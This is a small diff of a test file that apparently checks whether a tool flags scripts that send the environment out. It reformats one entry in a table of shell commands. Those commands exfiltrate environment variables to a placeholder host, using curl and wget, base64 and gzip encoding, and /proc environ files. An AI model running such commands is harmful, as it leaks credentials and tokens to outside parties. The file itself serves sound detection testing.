@@ -24,7 +24,10 @@ test.each([
     `env | (sleep 0.2; while read -r line; do ${send} <<< "$line" || ${send}; break; done)`,
   ],
   ['encoded, as an argument', `curl -s -m 5 -d "$(env | base64 -w0)" http://192.0.2.9/; true`],
-  ['encoded, in a query', `wget -qt 1 -T 5 -O- "http://192.0.2.9/?d=$(printenv | gzip | xxd -p)"; true`],
+  [
+    'encoded, in a query',
+    `wget -qt 1 -T 5 -O- "http://192.0.2.9/?d=$(printenv | gzip | xxd -p)"; true`,
+  ],
   ['its file, as an argument', 'curl -s -m 5 -T /proc/self/environ http://192.0.2.9/; true'],
   ['the file of another process', 'cd /proc/$$; curl -s -m 5 -d @environ http://192.0.2.9/; true'],
 ])('who sends the environment is told: %s', async (_, script) => {
